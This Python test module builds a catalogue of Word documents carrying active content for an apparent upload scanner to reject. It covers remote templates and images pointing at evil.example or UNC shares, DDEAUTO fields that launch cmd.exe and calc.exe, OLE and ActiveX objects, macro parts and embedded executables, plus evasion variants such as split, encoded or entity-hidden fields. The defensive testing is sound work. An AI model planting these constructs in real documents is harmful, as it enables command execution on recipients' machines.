"""Word documents that act."""

from collections.abc import Iterator

from tests.harness import samples
from tests.uploads.active_files.make_docx import (
    HERE,
    MICROSOFT,
    RELATIONS,
    SHEET,
    STRICT,
    body,
    code,
    docx,
    field,
    instruction,
    kinds,
    mark,
    related,
    relation,
    text,
    utf16,
    with_object,
    with_sheet,
    with_template,
    within,
)

PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0" + bytes(400)
EVIL = "http://evil.example/x"
SHARE = "\\\\evil.example\\x"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_528)
_DDE = "DDEAUTO cmd x"
_VBA = "application/vnd.ms-office.vbaProject"
_VML = "urn:schemas-microsoft-com:vml"
_VIDEO = "http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _templates() -> Iterator[tuple[str, bytes]]:
    evil = relation("attachedTemplate", EVIL)
    yield "template.docx", with_template(EVIL + ".dotm")
    yield "template-share.docx", with_template(SHARE + ".dotm")
    yield "template-share-in-the-house.docx", with_template("file:///\\\\server\\Sjablonen\\Brief.dotm")
    yield "template-share-as-file.docx", with_template("file://evil.example/x.dotm")
    yield "template-share-as-file-too.docx", with_template("file:////evil.example/x.dotm")
    yield "template-encoded.docx", with_template("%5c%5cevil.example%5cx.dotm")
    yield "template-mixed.docx", with_template("/\t\\evil.example/x.dotm")
    yield "template-in-two-lines.docx", with_template("htt\np://evil.example/x.dotm")
    yield "template-strict.docx", with_template(EVIL, base=STRICT)
    yield "template-small-letters.docx", with_template(EVIL, mode="external")
    yield "template-no-mode.docx", with_template(EVIL, mode="")
    yield "template-odd-place.docx", docx({"WORD\\_RELS\\Settings.XML.RELS": evil})
    yield "template-encoded-place.docx", docx({"word/%5Frels/x.xml.rels": evil})
    yield "template-any-place.docx", docx({"x": evil})
    yield "template-utf16.docx", docx({"word/_rels/s.xml.rels": utf16(evil)})
    said = f'<w:settings xmlns:w="{_WORD}" xmlns:r="{HERE}"><w:attachedTemplate r:id="r1"/></w:settings>'
    link = {"word/settings.xml": said, "Word/_rels/Settings.xml.rels": relation("hyperlink", EVIL)}
    yield "template-called-link.docx", docx(link)


def _pictures() -> Iterator[tuple[str, bytes]]:
    yield "picture.docx", related("image", EVIL + ".png")
    yield "picture-share.docx", related("image", SHARE + ".png")
    blip = f'<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{HERE}" r:link="r1"/>'
    yield "picture-called-link.docx", docx({"word/document.xml": text(blip), RELATIONS: relation("hyperlink", EVIL)})
    yield "picture-of-old.docx", body(f'<v:shape xmlns:v="{_VML}"><v:imagedata src="{EVIL}"/></v:shape>')
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
    yield "picture-in-a-drawing.docx", docx({"word/media/image1.svg": svg})
    yield "video.docx", body(f'<wp15:webVideoPr xmlns:wp15="{_VIDEO}" embeddedHtml="&lt;iframe>"/>')


def _objects() -> Iterator[tuple[str, bytes]]:
    yield "object-linked.docx", with_object("Link", {RELATIONS: relation("oleObject", EVIL)})
    yield "object-linked-here.docx", with_object("Link", {RELATIONS: relation("oleObject", "file:///C:\\x.xlsx")})
    called_link = {RELATIONS: relation("hyperlink", EVIL)}
    yield "object-called-link.docx", with_object("Embed", called_link)
    yield "object-moniker.docx", related("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}")
    inside = {RELATIONS: relation("oleObject", "embeddings/oleObject1.bin", ""), "word/embeddings/oleObject1.bin": _OLE}
    yield "object-embedded.docx", with_object("Embed", inside)
    yield "object-as-picture.docx", docx({"word/media/image1.png": _OLE})
    yield "object-no-ole.docx", docx({RELATIONS: relation("oleObject", "media/x", ""), "word/media/x": b"\x89PNG"})
    yield "control.docx", body(f'<w:object><w:control xmlns:r="{HERE}" r:id="r1"/></w:object>')
    yield "control-relation.docx", related("control", "activeX/activeX1.xml", "")
    control = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    yield "control-part.docx", docx({"word/activeX/x.xml": control})


def _fields() -> Iterator[tuple[str, bytes]]:
    yield "link-field.docx", field(' LINK Excel.Sheet.12 "C:\\\\x.xlsx" "A1" \\a ')
    yield "text-elsewhere.docx", field(f' INCLUDETEXT "{EVIL}" ')
    yield "text-from-share.docx", field(' INCLUDETEXT "\\\\\\\\evil.example\\\\x" ')
    yield "picture-field.docx", field(f' INCLUDEPICTURE \\d "{EVIL}.png" \\* MERGEFORMATINET ')
    yield "picture-field-bare.docx", field(" INCLUDEPICTURE \\\\\\\\evil.example\\\\x.png \\d")
    yield "picture-field-round-quotes.docx", field(f" INCLUDEPICTURE “{EVIL} x” \\d")
    yield "picture-field-made-up.docx", field(' INCLUDEPICTURE "', code("QUOTE 104 116"), '"')
    yield "database-field.docx", field(' DATABASE \\d "C:\\\\x.mdb" \\s "SELECT 1" ')
    yield "control-field.docx", field(" CONTROL Forms.CommandButton.1 ")


def _dde() -> Iterator[tuple[str, bytes]]:
    begin, separate, end = map(mark, ("begin", "separate", "end"))
    yield "dde.docx", field(" DDE excel c:\\\\x.xls ")
    yield "ddeauto.docx", field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
    yield "ddeauto-in-pieces.docx", field(" DD", "E", "AU", 'TO "cmd" "/k"')
    yield "ddeauto-small-letters.docx", field(' \u00a0ddeAuto "cmd" "/k"')
    yield "ddeauto-simple.docx", body(f'<w:fldSimple w:instr=" {_DDE}"/>')
    yield "ddeauto-within.docx", field(" IF 1 = ", code(_DDE), " 2 3 ")
    yield "ddeauto-in-a-result.docx", body(begin + instruction("PAGE") + separate + code(_DDE) + end)
    yield "ddeauto-without-end.docx", body(begin + instruction(_DDE))
    yield "ddeauto-without-beginning.docx", body(instruction(_DDE))
    struck = f"<w:del><w:r><w:delInstrText>{_DDE}</w:delInstrText></w:r></w:del>"
    yield "ddeauto-struck-out.docx", body(begin + struck + end)
    strict = text(code(_DDE)).replace(_WORD, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    yield "ddeauto-strict.docx", docx({"word/document.xml": strict})
    yield "ddeauto-in-header.docx", docx({"word/header1.xml": text(code(_DDE))})
    yield "ddeauto-anywhere.docx", docx({"x/y.z": text(code(_DDE))})
    named = text(code("&d; cmd x")).partition("?>")[2]
    yield "ddeauto-by-entity.docx", docx({"word/document.xml": f"<!DOCTYPE d [<!ENTITY d 'DDEAUTO'>]>{named}"})


def _chunks() -> Iterator[tuple[str, bytes]]:
    yield "chunk.docx", docx({RELATIONS: relation("aFChunk", "x.html", ""), "word/x.html": "<b>x<br></b>"})
    yield "chunk-element.docx", body(f'<w:altChunk xmlns:r="{HERE}" r:id="r1"/>')
    yield "rich-text.docx", docx({"word/x.txt": "{\\rtf1{\\object\\objdata 01}}"})
    yield "frame.docx", docx({"word/_rels/webSettings.xml.rels": relation("frame", EVIL)})
    yield "subdocument.docx", related("subDocument", "file:///C:\\x.docx")


def _macros() -> Iterator[tuple[str, bytes]]:
    yield "macros.docx", samples.macro_docx()
    yield "macros-usual-kind.docx", docx({"word/vbaProject.bin": _OLE})
    yield "macros-other-name.docx", docx({"word/styles2.dat": _OLE})
    yield "macros-relation.docx", docx({RELATIONS: relation("vbaProject", "x", "", MICROSOFT), "word/x": b"x"})
    override = f'<Override PartName="/word/x" ContentType="{_VBA.upper()}"/>'
    yield "macros-kind.docx", docx({**kinds(override), "word/x": b"x"})
    default = f'<Default Extension="BIN" ContentType="{_VBA}"/>'
    yield "macros-kind-of-ending.docx", docx({**kinds(default), "word/x.bin": b"x"})
    main = f'<Override PartName="/word/document2.xml" ContentType="{samples.MACRO_MAIN}"/>'
    yield "macros-main.docx", docx(kinds(main))
    yield "ribbon.docx", docx({"_rels/x.rels": relation("ui/extensibility", "customUI/x.xml", "", MICROSOFT)})


def _programs() -> Iterator[tuple[str, bytes]]:
    yield "program.docx", docx({"word/media/image1.png": PROGRAM})
    yield "program-for-linux.docx", docx({"word/x": b"\x7fELF" + bytes(99)})
    yield "windows-link.docx", docx({"word/x": b"L\0\0\0\x01\x14\x02\0" + bytes(99)})
    yield "archive-inside.docx", docx({"word/media/x.png": samples.zip_of({"x.exe": PROGRAM})})


def _packed() -> Iterator[tuple[str, bytes]]:
    yield "macros-in-a-table.docx", with_sheet({"xl/vba.bin": _OLE})
    dde = f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "dde-in-a-table.docx", with_sheet({"xl/externalLinks/externalLink1.xml": dde})
    connection = f'<connections xmlns="{SHEET}"><connection id="1"/></connections>'
    yield "table-that-asks.docx", with_sheet({"xl/connections.xml": connection})
    none = {RELATIONS: relation("package", "embeddings/x.xlsx", ""), "word/embeddings/x.xlsx": "<script>"}
    yield "table-that-is-none.docx", docx(none)
    yield "letter-in-letter-in-letter-in-letter.docx", within(within(within(samples.docx())))


KINDS = (_templates, _pictures, _objects, _fields, _dde, _chunks, _macros, _programs, _packed)
